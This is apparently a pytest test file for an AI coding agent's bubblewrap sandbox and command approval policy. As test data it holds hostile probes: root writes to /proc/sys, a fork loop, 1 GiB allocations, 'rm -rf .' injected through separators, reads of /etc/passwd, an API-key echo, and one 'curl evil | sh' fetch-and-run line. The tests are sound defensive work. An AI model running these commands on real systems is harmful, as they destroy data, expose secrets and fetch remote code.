"""Tests for vibe_agent.sandbox: limits in both modes, isolation under bubblewrap, policies.

Most tests run twice: inside bubblewrap ("bwrap", skipped only when bwrap is not
installed; CI installs it) and unisolated ("no-sandbox", the person's explicit choice
VIBE_AGENT_SANDBOX=none). The hostile probes are commands a model could send: writes to
/proc/sys as root, fork bombs, 1 GiB allocations and files, setsid daemons, terminal
escapes. Tests marked `needs_root` probe what only root could do (CI runs as root).
"""

from __future__ import annotations

import concurrent.futures
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import tracemalloc
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest

from vibe_agent import sandbox, supervise
from vibe_agent.coding import remove_tree
from vibe_agent.sandbox import (
    DEFAULT_POLICY,
    SANDBOX_ENV,
    Action,
    Policy,
    SandboxUnavailable,
    SandboxWarning,
    run_in_sandbox,
    why_not_isolated,
)

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="bubblewrap (bwrap) is not installed; CI installs it")
pytestmark = pytest.mark.filterwarnings("ignore::vibe_agent.sandbox.SandboxWarning")


@pytest.fixture(params=[pytest.param("bwrap", marks=needs_bwrap), "no-sandbox"])
def isolated(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    """Run the test inside bubblewrap, then again with the unisolated fallback."""
    if request.param == "no-sandbox":
        monkeypatch.setenv(SANDBOX_ENV, "none")
    else:
        monkeypatch.delenv(SANDBOX_ENV, raising=False)
    return request.param == "bwrap"


@pytest.fixture
def bwrap_only(monkeypatch: pytest.MonkeyPatch) -> None:
    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap (bwrap) is not installed; CI installs it")
    monkeypatch.delenv(SANDBOX_ENV, raising=False)


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "workspace"
    root.mkdir()
    return root


def run(command: str, workspace: Path, timeout: float = 5.0, **kwargs) -> sandbox.CommandResult:
    return run_in_sandbox(command, workspace, timeout=timeout, **kwargs)


# --- exit codes and output -----------------------------------------------------------

COMMANDS = [
    # (command, exit code, output, id)
    ("echo hello", 0, "hello\n", "echo"),
    ("exit 3", 3, "", "exit-code"),
    ("echo out; echo err >&2; echo out2", 0, "out\nerr\nout2\n", "stderr-merged-in-order"),
    ("python -c 'import pytest; print(pytest.__name__)'", 0, "pytest\n", "same-python-has-pytest"),
    ("python -c 'import sys; sys.exit(2)'", 2, "", "python-exit-code"),
    ("cat", 0, "", "stdin-is-empty-not-a-hang"),
]


@pytest.mark.parametrize(("command", "exit_code", "output"),
                         [row[:3] for row in COMMANDS], ids=[row[3] for row in COMMANDS])
def test_exit_code_and_output(isolated, workspace, command, exit_code, output):
    result = run(command, workspace)
    assert (result.exit_code, result.output) == (exit_code, output)
    assert (result.timed_out, result.truncated, result.isolated) == (False, False, isolated)


def test_the_command_works_in_the_workspace(isolated, workspace):
    (workspace / "data.txt").write_text("from the host\n")
    result = run("cat data.txt; echo made > made.txt; pwd", workspace)
    assert result.output.splitlines()[0] == "from the host"
    assert (workspace / "made.txt").read_text() == "made\n"
    # the path the command sees is stable under bwrap, so recordings are reproducible
    expected = "/workspace" if isolated else str(workspace.resolve())
    assert result.output.splitlines()[1] == expected


# --- the time limit kills every process ----------------------------------------------


def processes_with(marker: str) -> list[int]:
    """Live (not zombie) processes whose command line contains `marker`."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
            state = (entry / "stat").read_text().rpartition(")")[2].split()[0]
        except (OSError, IndexError):
            continue
        if marker.encode() in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


def gone(marker: str, within: float = 2.0) -> bool:
    deadline = time.monotonic() + within
    while processes_with(marker):
        if time.monotonic() > deadline:
            return False
        time.sleep(0.02)
    return True


@pytest.fixture
def marker() -> Iterator[str]:
    """A unique sleep duration, so the test can find its own processes in /proc."""
    if not Path("/proc/self/cmdline").exists():
        pytest.skip("needs /proc to look for left-over processes")
    value = f"100.{uuid.uuid4().int % 10**9}"
    yield value
    for pid in processes_with(value):  # never leave a stray sleep behind, even on failure
        with contextlib.suppress(ProcessLookupError):
            os.kill(pid, signal.SIGKILL)


def test_time_limit_kills_child_and_grandchild(isolated, workspace, marker):
    started = time.monotonic()
    result = run(f"sleep {marker} & echo $!; sleep {marker}", workspace, timeout=1.0)
    assert time.monotonic() - started < 3.0  # returned promptly after the 1 s limit
    assert result.timed_out and result.exit_code is None
    assert result.output.strip().isdigit()  # the grandchild's pid, printed before the kill
    assert gone(marker), f"left-over processes: {processes_with(marker)}"


def test_background_jobs_die_when_the_command_ends(isolated, workspace, marker):
    result = run(f"sleep {marker} & echo started", workspace, timeout=5.0)
    assert (result.exit_code, result.output, result.timed_out) == (0, "started\n", False)
    assert result.elapsed_s < 3.0  # not the 5 s limit: the job's open pipe is not waited for
    assert gone(marker), f"left-over processes: {processes_with(marker)}"


# --- the output cap ----------------------------------------------------------------


def test_huge_output_is_capped_while_reading(isolated, workspace):
    tracemalloc.start()
    try:
        result = run("yes | head -c 100000000", workspace, max_output=2000)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 2_000_000  # 100 MB went through the pipe; a few chunks were ever held
    assert result.exit_code == 0 and result.truncated
    assert "99998000 bytes omitted" in result.output
    assert len(result.output) < 2000 + 300


def test_cap_keeps_the_start_and_the_end(isolated, workspace):
    command = "python -c \"print('START'); print('x' * 50000); print('END')\""
    result = run(command, workspace, max_output=1000)
    assert result.truncated
    assert result.output.startswith("START\n")
    assert result.output.endswith("xxx\nEND\n")
    assert "bytes omitted" in result.output


def test_short_output_is_not_marked(isolated, workspace):
    result = run("python -c \"print('y' * 999)\"", workspace, max_output=1000)
    assert not result.truncated and result.output == "y" * 999 + "\n"


# --- no secrets, no network, no writes outside -------------------------------------


def test_environment_has_no_secrets(isolated, workspace, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-never-leak-this")
    monkeypatch.setenv("SOME_TOKEN", "token-never-leak-this")
    result = run("env", workspace)
    env = dict(line.split("=", 1) for line in result.output.splitlines())
    assert "OPENAI_API_KEY" not in env and "SOME_TOKEN" not in env
    assert "never-leak" not in result.output
    assert env["PATH"].startswith(f"{sys.prefix}/bin:")
    assert env["PYTHONDONTWRITEBYTECODE"] == "1"
    assert env["HOME"] == "/tmp" if isolated else env["HOME"] != str(Path.home())


@pytest.fixture
def server_port() -> Iterator[int]:
    """A TCP server on 127.0.0.1 that accepts connections (the backlog does the work)."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        yield server.getsockname()[1]


def test_network_is_cut_only_inside_bubblewrap(isolated, workspace, server_port):
    command = (f"python -c \"import socket; socket.create_connection(('127.0.0.1', "
               f"{server_port}), 2); print('connected')\"")
    result = run(command, workspace)
    if isolated:
        assert result.exit_code != 0 and "connected" not in result.output
        assert "ConnectionRefusedError" in result.output or "unreachable" in result.output
    else:
        assert (result.exit_code, result.output) == (0, "connected\n")


OUTSIDE_WRITES = [
    # (command template, id); {prefix} is sys.prefix, the Python the sandbox can run
    ("touch /usr/vibe-agent-{marker}", "system-dir"),
    ("touch {prefix}/vibe-agent-{marker}", "python-prefix"),
    ("mount -o remount,rw,bind {prefix} && touch {prefix}/vibe-agent-{marker}",
     "remount-read-write"),
]


@pytest.mark.parametrize("template", [row[0] for row in OUTSIDE_WRITES],
                         ids=[row[1] for row in OUTSIDE_WRITES])
def test_bubblewrap_refuses_writes_outside_the_workspace(bwrap_only, workspace, template):
    marker = uuid.uuid4().hex
    result = run(template.format(prefix=sys.prefix, marker=marker), workspace)
    assert result.isolated and result.exit_code != 0
    assert not Path(f"/usr/vibe-agent-{marker}").exists()
    assert not Path(sys.prefix, f"vibe-agent-{marker}").exists()


def test_bubblewrap_tmp_is_private(bwrap_only, workspace):
    name = f"vibe-agent-{uuid.uuid4().hex}"
    host_file = Path("/tmp", f"vibe-agent-host-{uuid.uuid4().hex}")
    host_file.write_text("on the host")
    try:
        result = run(f"echo secret > /tmp/{name} && cat /tmp/{name} && ls -A /tmp", workspace)
    finally:
        host_file.unlink()
    lines = result.output.splitlines()
    assert lines[0] == "secret" and name in lines[1:]  # a /tmp of its own ...
    assert host_file.name not in lines  # ... that does not show the real one
    assert not Path("/tmp", name).exists()  # ... and leaves nothing in it


def test_bubblewrap_shows_no_home_and_no_project(bwrap_only, workspace):
    project_file = Path(__file__).resolve().parents[1] / "pyproject.toml"
    result = run(f"ls {project_file}", workspace)
    assert result.exit_code != 0 and "No such file or directory" in result.output
    # Of the home folder only the paths down to the course's Python and its venv (bound
    # read-only so that `python -m pytest` works inside) may show; CI's venv may live anywhere.
    home = Path.home()
    pythons = {Path(sys.prefix).resolve(), Path(sys.base_prefix).resolve()}
    allowed = {p.relative_to(home).parts[0] for p in pythons if p.is_relative_to(home)}
    inside = run(f"ls -A {Path.home()} 2>/dev/null", workspace).output.split()
    assert set(inside) <= allowed


# --- what root may write stays unwritable inside --------------------------------------

needs_root = pytest.mark.skipif(os.geteuid() != 0,
                                reason="probes what root could do inside; CI runs as root")


def current(path: str) -> str:
    """A /proc/sys value as it is now, so that a write that got through changes nothing."""
    try:
        return Path(path).read_text().strip()
    except OSError:
        return "0"


PROC_WRITES = [
    # (file a hostile command writes, what it writes, id)
    ("/proc/sys/kernel/hostname", "pwned", "hostname"),
    ("/proc/sys/kernel/core_pattern", current("/proc/sys/kernel/core_pattern"), "core-pattern"),
    ("/proc/sys/kernel/panic", current("/proc/sys/kernel/panic"), "panic"),
    ("/proc/sys/vm/drop_caches", "1", "drop-caches"),
    ("/proc/sysrq-trigger", "h", "sysrq-trigger"),  # h: print help, the harmless key
]


@needs_root
@pytest.mark.parametrize(("path", "value"), [row[:2] for row in PROC_WRITES],
                         ids=[row[2] for row in PROC_WRITES])
def test_proc_is_not_writable_as_root(bwrap_only, workspace, path, value):
    result = run(f"printf '%s\\n' '{value}' > {path} && echo WRITTEN", workspace)
    assert result.exit_code != 0 and "WRITTEN" not in result.output
    assert any(why in result.output for why in
               ("Read-only file system", "Permission denied", "Directory nonexistent"))


def test_the_command_is_nobody_without_capabilities(bwrap_only, workspace):
    result = run("id -u; id -g; grep -E '^Cap(Eff|Prm|Bnd):' /proc/self/status; "
                 "cat /proc/self/uid_map", workspace)
    lines = result.output.split()
    assert lines[:2] == [str(sandbox.SANDBOX_UID), str(sandbox.SANDBOX_GID)]
    assert lines[3:6:2] == ["0000000000000000"] * 2  # no capability
    uid_map = lines[8:]
    if uid_map == ["0", "0", "4294967295"]:  # the host's users: not even one to regain
        assert lines[7] == "0000000000000000"
    else:  # a namespace of its own (also as root): the host's root is not in it at all
        assert uid_map == [str(sandbox.SANDBOX_UID), mine(), "1"]


def mine() -> str:
    """Who the sandbox's user is on the host: nobody itself as root, else us."""
    return str(sandbox.SANDBOX_UID if os.geteuid() == 0 else os.geteuid())


@needs_root
def test_where_nobody_may_make_no_user_namespace_the_command_is_still_nobody(bwrap_only,
                                                                           workspace):
    """The fallback chain (no `unshare`): the host's users, every capability gone."""
    # One exec, no fork: as the host's nobody every sandbox counts against one
    # MAX_PROCESSES (the limit of this fallback), so with another test's sandbox holding
    # many processes a fork here could fail (it did, once, under three workers).
    argv = sandbox.bwrap_argv("exec cat /proc/self/status /proc/self/uid_map", workspace,
                              own_namespace=False)
    with sandbox._handed_over(workspace):
        done = subprocess.run(argv, capture_output=True, text=True, timeout=30)
    status = dict(line.split(":\t", 1) for line in done.stdout.splitlines() if ":\t" in line)
    assert status, done.stderr
    assert status["Uid"].split()[0] == str(sandbox.SANDBOX_UID)
    assert sandbox._unshare_user()[0] not in argv
    assert [status[name] for name in ("CapEff", "CapPrm", "CapBnd")] == ["0000000000000000"] * 3
    assert done.stdout.splitlines()[-1].split() == ["0", "0", "4294967295"]


@needs_root
def test_as_root_each_command_has_a_process_limit_of_its_own(bwrap_only, workspace):
    """Two sandboxes at once, each one process short of the limit: as one shared budget
    of uid 65534 (before `unshare`) the second one's fork failed."""
    if not sandbox._own_user_namespace():
        pytest.skip("nobody may not make a user namespace here: every sandbox shares one limit")
    holds = (f"for i in $(seq {sandbox.MAX_PROCESSES - 4}); do sleep 2 & done; "
             "echo started; wait")
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        results = list(pool.map(lambda folder: run(holds, folder, timeout=20),
                                [workspace, Path(tempfile.mkdtemp(dir=workspace.parent))]))
    assert [result.output for result in results] == ["started\n", "started\n"]


def test_the_sandbox_shows_no_host_users(bwrap_only, workspace):
    result = run("cat /etc/passwd /etc/group", workspace)
    names = {line.split(":")[0] for line in result.output.splitlines()}
    assert names == {"root", "nobody", "nogroup"}


# --- resource limits -------------------------------------------------------------------

FORKS = """python -c "
import os, time
made = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as exc:
        print('fork refused:', exc.strerror)
        break
    if pid == 0:
        time.sleep(2)
        os._exit(0)
    made += 1
print('forked', made)
" """


def test_process_limit_stops_a_fork_bomb(bwrap_only, workspace):
    result = run(FORKS, workspace, timeout=10)
    assert "fork refused: Resource temporarily unavailable" in result.output
    assert int(result.output.split()[-1]) < sandbox.MAX_PROCESSES < 200


def test_memory_limit_stops_a_1_gib_allocation(isolated, workspace):
    result = run("python -c \"b = bytearray(1 << 30); print('allocated')\"", workspace)
    assert result.exit_code != 0 and "MemoryError" in result.output
    assert "allocated" not in result.output


def test_file_size_limit_stops_a_1_gib_file(isolated, workspace):
    result = run("head -c 1073741824 /dev/zero > big.bin", workspace, timeout=20)
    assert result.exit_code != 0 and "File size limit exceeded" in result.output
    assert (workspace / "big.bin").stat().st_size <= sandbox.MAX_FILE_SIZE


def test_tmp_is_capped(bwrap_only, workspace):
    # du counts only what the command wrote: the venv may be bound under /tmp too (a CI
    # clone in /tmp), read-only, and is not part of the sandbox's own /tmp.
    command = ("for i in 1 2 3 4; do head -c 60000000 /dev/zero > /tmp/f$i || echo FULL $i; "
               "done; du -cm /tmp/f* | tail -n 1")
    result = run(command, workspace, timeout=20)
    assert "No space left on device" in result.output and "FULL" in result.output
    assert int(result.output.split()[-2]) <= sandbox.TMP_SIZE >> 20


# The same sandbox for an ordinary user: no change of user on the host, a user namespace
# maps the user to 65534 inside. Tried for real as nobody, with the system's own Python
# (the course's may live where nobody cannot read, e.g. under /root).
AS_AN_ORDINARY_USER = """
import importlib, json, sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
sandbox = importlib.import_module("copied.sandbox")
results = {}
for name, command in json.loads(sys.argv[3]).items():
    done = sandbox.run_in_sandbox(command, Path(sys.argv[2]), timeout=20)
    results[name] = [done.isolated, done.exit_code, done.output]
print(json.dumps(results))
"""

@needs_root
def test_an_ordinary_user_gets_the_same_sandbox(bwrap_only):
    python = Path("/usr/bin/python3")
    if not python.exists():
        pytest.skip("needs the system's /usr/bin/python3 to run as nobody")
    with tempfile.TemporaryDirectory() as folder:  # in /tmp: pytest's tmp_path is root's only
        Path(folder).chmod(0o755)
        workspace = Path(folder, "workspace")
        workspace.mkdir()
        os.chown(workspace, sandbox.SANDBOX_UID, sandbox.SANDBOX_GID)
        # The checkout may lie where nobody cannot read (root's home is mode 700, or a
        # private mktemp -d): the other user gets a readable copy of the core's modules, as
        # a package of its own (sandbox.py imports only the standard library and them).
        package = Path(folder, "copied")
        package.mkdir()
        (package / "__init__.py").write_text("")  # not the package's: it imports them all
        for module in Path(sandbox.__file__).parent.glob("*.py"):
            if module.name != "__init__.py":
                shutil.copyfile(module, package / module.name)
        for copied in package.iterdir():
            copied.chmod(0o644)
        check_as_nobody(python, workspace, Path(folder))


def check_as_nobody(python: Path, workspace: Path, importable: Path) -> None:
    probes = {"uid": "id -u", "hostname": "echo pwned > /proc/sys/kernel/hostname",
              "forks": FORKS.replace("python -c", "python3 -c"),
              "memory": "python3 -c 'bytearray(1 << 30)'", "file": "echo made > made.txt"}
    done = subprocess.run(["setpriv", f"--reuid={sandbox.SANDBOX_UID}",
                           f"--regid={sandbox.SANDBOX_GID}", "--clear-groups", str(python),
                           "-I", "-c", AS_AN_ORDINARY_USER, str(importable), str(workspace),
                           json.dumps(probes)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout)
    assert all(isolated for isolated, _, _ in results.values())
    assert results["uid"][1:] == [0, f"{sandbox.SANDBOX_UID}\n"]
    assert "Read-only file system" in results["hostname"][2]
    assert "fork refused: Resource temporarily unavailable" in results["forks"][2]
    assert "MemoryError" in results["memory"][2]
    assert (workspace / "made.txt").stat().st_uid == sandbox.SANDBOX_UID  # the user's own


# --- the workspace as the sandbox's user sees it (root only: otherwise nothing changes hands)


@needs_root
def test_files_change_hands_and_come_back(bwrap_only, workspace):
    (workspace / "app.py").write_text("x = 1\n")  # written by the host, as root
    (workspace / "pkg").mkdir()
    result = run("echo 'y = 2' >> app.py && mkdir -p pkg/new && echo made > pkg/new/f.txt "
                 "&& ls -ln app.py | cut -d' ' -f3", workspace)
    assert result.output.split() == [str(sandbox.SANDBOX_UID)]  # nobody's while it runs
    assert (workspace / "app.py").read_text() == "x = 1\ny = 2\n"
    owner = workspace.stat().st_uid
    everything = [workspace, *workspace.rglob("*")]
    assert {path.lstat().st_uid for path in everything} == {owner}  # the host's again


MAKE_DEEP_TREE = """\
import os

folder = os.open(".", os.O_RDONLY)
for _ in range(1100):  # deeper than Python's recursion limit
    os.mkdir("d", dir_fd=folder)
    folder = os.open("d", os.O_RDONLY, dir_fd=folder)
os.close(os.open("bottom.txt", os.O_WRONLY | os.O_CREAT, dir_fd=folder))
"""


@needs_root
def test_a_tree_1100_folders_deep_comes_back_too(bwrap_only, workspace):
    """os.fwalk recurses: handing back a tree this deep raised RecursionError."""
    (workspace / "mk.py").write_text(MAKE_DEEP_TREE)
    try:
        result = run("python mk.py && echo made", workspace, timeout=60)
        assert result.exit_code == 0 and result.output == "made\n"
        owners, folder = [], os.open(workspace, os.O_RDONLY)
        for _ in range(1100):
            owners.append(os.stat("d", dir_fd=folder).st_uid)
            folder, parent = os.open("d", os.O_RDONLY, dir_fd=folder), folder
            os.close(parent)
        owners.append(os.stat("bottom.txt", dir_fd=folder).st_uid)
        os.close(folder)
        assert set(owners) == {workspace.stat().st_uid}  # the host's again, to the bottom
    finally:
        if (workspace / "d").exists():  # pytest's own clean-up would hit RecursionError
            remove_tree(workspace / "d")


@needs_root
def test_a_hard_link_keeps_its_owner(bwrap_only, workspace, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("the host's\n")
    os.link(outside, workspace / "linked.txt")
    result = run("echo changed > linked.txt", workspace)
    assert result.exit_code != 0 and "Permission denied" in result.output
    assert outside.read_text() == "the host's\n" and outside.stat().st_uid == 0


def test_pytest_runs_and_writes_its_cache(isolated, workspace):
    (workspace / "test_ok.py").write_text("def test_ok():\n    assert 1 + 1 == 2\n")
    result = run("python -m pytest -q", workspace, timeout=60)
    assert result.exit_code == 0 and "1 passed" in result.output
    assert (workspace / ".pytest_cache").is_dir()


# --- a daemon does not outlive its command, with or without bubblewrap ------------------


def test_a_setsid_daemon_does_not_survive(isolated, workspace, marker):
    daemon = f"setsid sh -c '(sleep {marker} &) ; sleep {marker}' > /dev/null 2>&1 < /dev/null &"
    result = run(f"{daemon} echo started", workspace)
    assert result.output == "started\n" and not result.timed_out
    assert gone(marker), f"left-over processes: {processes_with(marker)}"


def test_a_daemon_is_killed_at_the_time_limit_too(isolated, workspace, marker):
    result = run(f"setsid sh -c 'sleep {marker} &'; sleep {marker}", workspace, timeout=1.0)
    assert result.timed_out
    assert gone(marker), f"left-over processes: {processes_with(marker)}"


# --- what each command costs: as few program starts and files as the guards allow -------


def test_a_sandboxed_command_starts_one_shell(bwrap_only, workspace):
    # bwrap itself enters the workspace (as root it keeps the right to search a folder
    # that nobody owns, until setpriv drops every capability): no `cd` shell around it
    argv = sandbox.bwrap_argv("true", workspace)
    assert argv.count("/bin/sh") == 1 and argv[-3:] == ["/bin/sh", "-c", "true"]
    assert argv[argv.index("--chdir") + 1] == sandbox.WORKSPACE


def test_a_sandboxed_command_makes_no_folder_on_the_host(bwrap_only, workspace, monkeypatch):
    run("true", workspace)  # the probe and the sandbox's /etc are made once per process

    def refuse(*args, **kwargs):
        raise AssertionError("a host folder was made for one sandboxed command")

    monkeypatch.setattr(sandbox.tempfile, "TemporaryDirectory", refuse)
    assert run("echo $HOME", workspace).output == "/tmp\n"


def test_the_supervisor_imports_no_ctypes():
    python, *rest = supervise.supervised(["/bin/sh", "-c", "exit 3"])
    done = subprocess.run([python, "-X", "importtime", *rest], capture_output=True, text=True,
                          timeout=30)
    imported = {line.rsplit("|", 1)[-1].strip() for line in done.stderr.splitlines()}
    assert done.returncode == 3 and "_signal" in imported
    assert "ctypes" not in imported


def test_the_supervisor_reads_its_children_from_the_kernels_list(monkeypatch):
    child = subprocess.Popen(["sleep", "5"])
    try:
        def no_scan(path):
            raise AssertionError(f"listed {path}: every process was read")

        monkeypatch.setattr(supervise.os, "listdir", no_scan)
        assert child.pid in supervise.children_of(os.getpid())
    finally:
        child.kill()
        child.wait()


def test_without_the_kernels_list_the_supervisor_reads_every_process(monkeypatch):
    child = subprocess.Popen(["sleep", "5"])
    real_open = open

    def no_list(path, *args, **kwargs):
        if str(path).endswith("/children"):
            raise FileNotFoundError(path)
        return real_open(path, *args, **kwargs)

    try:
        monkeypatch.setattr(supervise, "open", no_list, raising=False)
        assert child.pid in supervise.children_of(os.getpid())
    finally:
        child.kill()
        child.wait()


# --- output the model reads: no terminal control, no raw bytes --------------------------

OUTPUTS = [
    # (printf format, what the model reads, id)
    (r"\033[31mred\033[0m\n", "\\x1b[31mred\\x1b[0m\n", "ansi-colour"),
    (r"python -m pytest -q\rrm -rf .\n", "python -m pytest -q\\rrm -rf .\n", "carriage-return"),
    (r"line\r\n", "line\n", "crlf-is-a-newline"),
    (r"\377\376 bytes\n", "\\xff\\xfe bytes\n", "not-utf-8"),
    (r"nul\000bell\007\n", "nul\\x00bell\\x07\n", "control-bytes"),
    (r"tab\there 中文\n", "tab\there 中文\n", "tab-and-chinese-stay"),
]


@pytest.mark.parametrize(("printed", "shown"), [row[:2] for row in OUTPUTS],
                         ids=[row[2] for row in OUTPUTS])
def test_output_is_shown_escaped(isolated, workspace, printed, shown):
    assert run(f"printf '{printed}'", workspace).output == shown


def test_a_byte_that_is_not_utf_8_reaches_the_shell(isolated, workspace):
    (workspace / os.fsdecode(b"caf\xe9.txt")).touch()  # a Latin-1 name: not UTF-8
    result = run("ls caf*; cat caf\udce9.txt && echo read", workspace)  # \udce9 is byte 0xe9
    assert result.output == "caf\\xe9.txt\nread\n"


def test_the_cut_says_how_much_of_each_end_is_kept(isolated, workspace):
    result = run("yes | head -c 100000", workspace, max_output=1000)
    assert "only the first 500 and the last 500 are shown" in result.output


BAD_COMMANDS = [
    # (command, text of the refusal, id)
    ("echo \x00", "NUL character", "nul"),
    ("echo " + "a" * 200_000, "200005 bytes long", "too-long-for-the-kernel"),
    ("echo \ud800", "lone surrogate", "half-a-character"),
]


@pytest.mark.parametrize(("command", "reason"), [row[:2] for row in BAD_COMMANDS],
                         ids=[row[2] for row in BAD_COMMANDS])
def test_a_command_no_shell_can_take_is_refused_clearly(isolated, workspace, command, reason):
    with pytest.raises(ValueError, match=reason) as refused:
        run(command, workspace)
    assert str(workspace) not in str(refused.value) and "bwrap" not in str(refused.value)


# --- no sandbox: refused, unless the person chose it; then one plain notice -------------


@pytest.fixture
def no_bwrap(monkeypatch, tmp_path):
    """A PATH without bwrap, as on a machine where it is not installed."""
    monkeypatch.delenv(SANDBOX_ENV, raising=False)
    monkeypatch.setenv("PATH", str(tmp_path))  # an empty folder
    sandbox._bwrap_problem.cache_clear()
    yield
    sandbox._bwrap_problem.cache_clear()


def test_without_bwrap_nothing_runs_unless_chosen(no_bwrap, workspace):
    with pytest.raises(SandboxUnavailable, match=f"{SANDBOX_ENV}=none") as refused:
        run("echo ran > ran.txt", workspace)
    if sys.platform.startswith("linux"):
        assert "bwrap" in str(refused.value)
    assert not (workspace / "ran.txt").exists()


def test_chosen_unisolated_runs_and_says_so_once(no_bwrap, workspace, monkeypatch, capsys):
    monkeypatch.setenv(SANDBOX_ENV, "none")
    monkeypatch.setattr(sandbox, "_warned", False)
    with warnings.catch_warnings():
        warnings.simplefilter("default")  # as outside pytest
        first, second = run("echo still runs", workspace), run("true", workspace)
    assert (first.output, first.isolated, second.isolated) == ("still runs\n", False, False)
    assert capsys.readouterr().err == (f"{sandbox.NOT_ISOLATED}（{SANDBOX_ENV}=none）。"
                                       "命令能读写你能读写的一切。\n")  # one line, no prefix


def test_the_notice_obeys_warning_filters(workspace, monkeypatch, capsys):
    monkeypatch.setenv(SANDBOX_ENV, "none")
    monkeypatch.setattr(sandbox, "_warned", False)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", SandboxWarning)  # as lesson 08's table does
        run("true", workspace)
    assert capsys.readouterr().err == ""


def test_forced_fallback_has_a_reason(monkeypatch):
    monkeypatch.setenv(SANDBOX_ENV, "none")
    assert why_not_isolated() == f"{SANDBOX_ENV}=none"


# --- the approval policy -------------------------------------------------------------

ALLOW_LIST = [
    # (command, allowed?, text in the refusal, id)
    ("python -m pytest -q", True, None, "python-module"),
    ("pytest tests/test_app.py", True, None, "pytest"),
    ("ls -la", True, None, "ls"),
    ("grep -n 'def ' app.py", True, None, "quoted-argument"),
    ("rm -rf .", False, "rm is not on the allow list", "not-listed"),
    ("pythonx app.py", False, "pythonx is not on the allow list", "whole-words-only"),
    ("/usr/bin/rm -rf .", False, "/usr/bin/rm is not on the allow list", "path-to-program"),
    ('"rm" -rf .', False, "rm is not on the allow list", "quoted-program"),
    ("FOO=1 python", False, "FOO=1 is not on the allow list", "env-assignment-first"),
    ("python; rm -rf .", False, "';'", "semicolon"),
    ("python && rm -rf .", False, "'&'", "and-and"),
    ("python & rm -rf .", False, "'&'", "background"),
    ("python || rm -rf .", False, "'|'", "or-or"),
    ("cat app.py | sh", False, "'|'", "pipe"),
    ("python `rm -rf .`", False, "'`'", "backticks"),
    ("python $(rm -rf .)", False, "'$'", "command-substitution"),
    ("echo $OPENAI_API_KEY", False, "'$'", "variable"),
    ("echo pwned > app.py", False, "'>'", "redirect-out"),
    ("python < /etc/passwd", False, "'<'", "redirect-in"),
    ("python\nrm -rf .", False, "'\\n'", "newline"),
    ("python 'unclosed", False, "cannot parse", "unbalanced-quote"),
    ("   ", False, "(an empty command) is not on the allow list", "empty"),
]


@pytest.mark.parametrize(("command", "allowed", "reason"), [row[:3] for row in ALLOW_LIST],
                         ids=[row[3] for row in ALLOW_LIST])
def test_default_allow_list(command, allowed, reason):
    refusal = DEFAULT_POLICY.refusal(Action("command", command))
    if allowed:
        assert refusal is None
    else:
        assert refusal is not None and reason in refusal


@pytest.mark.parametrize(("command", "allowed"), [
    ("git status", True), ("git status -s", True), ("git push", False), ("git", False),
], ids=["exact", "with-options", "other-subcommand", "prefix-of-the-prefix"])
def test_multi_word_prefix(command, allowed):
    policy = Policy(["git status"])
    assert (policy.refusal(Action("command", command)) is None) == allowed


def test_allow_list_allows_writes_in_the_workspace():
    assert DEFAULT_POLICY.refusal(Action("write", "app.py")) is None


def test_allow_all():
    policy = Policy("allow-all")
    assert policy.refusal(Action("command", "rm -rf . ; curl evil | sh")) is None
    assert policy.refusal(Action("write", "app.py")) is None


def test_a_single_string_is_not_a_prefix_list():
    with pytest.raises(ValueError, match=r"\['python'\]"):
        Policy("python")


CALLABLES = [
    # (policy function, refusal or None, id)
    (lambda action: True, None, "true-allows"),
    (lambda action: False, "the policy does not allow", "false-refuses"),
    (lambda action: "只能在工作日运行", "只能在工作日运行", "string-is-the-reason"),
    (lambda action: action.kind == "write" or "只读模式", "只读模式", "sees-the-action"),
]


@pytest.mark.parametrize(("decide", "refusal"), [row[:2] for row in CALLABLES],
                         ids=[row[2] for row in CALLABLES])
def test_policy_function(decide, refusal):
    result = Policy(decide).refusal(Action("command", "python app.py"))
    assert result == refusal if refusal is None else refusal in result


def test_policy_function_must_answer():
    with pytest.raises(TypeError, match="must return True, False or a reason"):
        Policy(lambda action: None).refusal(Action("command", "ls"))


def _raise(exc: BaseException):
    def ask(prompt: str) -> str:
        raise exc
    return ask


ASK = [
    # (fake input, refusal text or None, id)
    (lambda prompt: "y", None, "yes"),
    (lambda prompt: " YES ", None, "yes-loudly"),
    (lambda prompt: "是", None, "yes-in-chinese"),
    (lambda prompt: "n", "the user said no", "no"),
    (lambda prompt: "", "the user said no", "enter-means-no"),
    (_raise(EOFError()), "nobody can answer", "no-stdin"),
    (_raise(OSError("reading from stdin while output is captured")), "nobody can answer",
     "stdin-unavailable"),
]


@pytest.mark.parametrize(("answer", "refusal"), [row[:2] for row in ASK],
                         ids=[row[2] for row in ASK])
def test_ask(answer, refusal):
    result = Policy("ask", ask=answer).refusal(Action("command", "rm -rf build"))
    assert result == refusal if refusal is None else refusal in result


def test_ask_shows_the_action_and_uses_input_by_default(monkeypatch):
    prompts = []
    monkeypatch.setattr("builtins.input", lambda prompt: prompts.append(prompt) or "y")
    assert Policy("ask").refusal(Action("write", "src/app.py")) is None
    assert "写入文件" in prompts[0] and "src/app.py" in prompts[0] and "[y/N]" in prompts[0]
